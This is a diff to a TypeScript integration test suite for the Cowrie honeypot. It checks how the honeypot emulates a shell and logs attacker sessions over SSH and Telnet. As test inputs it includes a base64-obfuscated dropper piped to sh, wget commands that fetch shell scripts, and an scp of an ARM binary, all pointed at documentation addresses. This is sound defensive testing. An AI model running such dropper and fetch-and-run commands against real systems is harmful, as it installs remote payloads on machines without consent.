@@ -9,7 +9,7 @@ const SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/d
 const IAC_WILL_ECHO_SGA = Buffer.from([255, 251, 1, 255, 251, 3]);
 
 let relay: Relay;
-let pot: Pot;
+let pot: Pot<"cowrie">;
 
 beforeAll(async () => {
   relay = Relay.start();
@@ -91,11 +91,30 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
     expect(r.stdout).toContain("root@db-prod-2:/tmp# pwd\r\n/tmp\r\n");
     expect(r.stdout).toContain("Connecting to 198.51.100.7:80... failed: Connection refused.\r\n");
     expect(r.stdout).toContain("root@db-prod-2:/tmp# exit\r\nlogout\r\n");
-    const download = await relay.event("cowrie.session.file_download", { url: "http://198.51.100.7/x.sh" });
+    // A documentation address is never fetched (download_private is off): the attempt fails as on a firewalled box.
+    const download = await relay.event("cowrie.session.file_download.failed", { url: "http://198.51.100.7/x.sh" });
     const events = await finished(download.session);
-    expect(download).toMatchObject({ ...common("ssh"), message: "Download attempt (not fetched): http://198.51.100.7/x.sh" });
+    expect(download).toMatchObject({ ...common("ssh"), message: "Attempt to download file(s) from URL (http://198.51.100.7/x.sh) failed" });
     expect(events.filter((e) => e.eventid === "cowrie.command.input").map((e) => e.input)).toEqual(["uname -a", "cd /tmp", "pwd", "wget http://198.51.100.7/x.sh", "exit"]);
     expect(events.find((e) => e.eventid === "cowrie.client.size")).toMatchObject({ width: expect.any(Number), height: expect.any(Number) });
+  });
+
+  test("bots' tells over OpenSSH: ps aux's BSD columns, enable, a base64 dropper and scp, their downloads recorded", async () => {
+    const dropper = "echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L2Ryb3Auc2gK | base64 -d | sh";
+    const r = await ssh("toor", `ps aux | head -n 1; enable | head -n 2; ${dropper}; scp root@198.51.100.8:m.arm /tmp; scp`);
+    expect(r.code).toBe(1); // scp without operands: its usage, status 1
+    expect(r.stdout).toBe("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nenable .\nenable :\n");
+    expect(r.stderr).toMatch(/^--[\d-]+ [\d:]+--  http:\/\/198\.51\.100\.7\/drop\.sh\nConnecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\.\n/);
+    expect(r.stderr).toEndWith(
+      "ssh: connect to host 198.51.100.8 port 22: Connection refused\r\nscp: Connection closed\r\n" +
+        "usage: scp [-346ABCOpqRrsTv] [-c cipher] [-D sftp_server_path] [-F ssh_config]\n" +
+        "           [-i identity_file] [-J destination] [-l limit] [-o ssh_option]\n" +
+        "           [-P port] [-S program] [-X sftp_option] source ... target\n",
+    );
+    const download = await relay.event("cowrie.session.file_download", { url: "http://198.51.100.7/drop.sh" });
+    const events = await finished(download.session);
+    expect(events.filter((e) => e.eventid === "cowrie.session.file_download").map((e) => e.url)).toEqual(["http://198.51.100.7/drop.sh", "scp://root@198.51.100.8/m.arm"]);
+    expect(events.filter((e) => e.eventid === "cowrie.command.failed")).toEqual([]);
   });
 
   test("keyboard-interactive logins work too, and `ssh host sh` reads commands from stdin", async () => {
@@ -152,6 +171,7 @@ describe("cowrie over Telnet, driven by a script", () => {
       expect.objectContaining({ ...base, eventid: "cowrie.command.input", input: "foo bar" }),
       expect.objectContaining({ ...base, eventid: "cowrie.command.failed", input: "foo bar", message: "Command not found: foo bar" }),
       expect.objectContaining({ ...base, eventid: "cowrie.command.input", input: "exit" }),
+      expect.objectContaining({ ...base, eventid: "cowrie.log.closed", ttylog: expect.stringMatching(/^tty\/[0-9a-f]{64}\.cast$/) }),
       expect.objectContaining({ ...base, eventid: "cowrie.session.closed", duration: expect.any(Number) }),
     ]);
   });
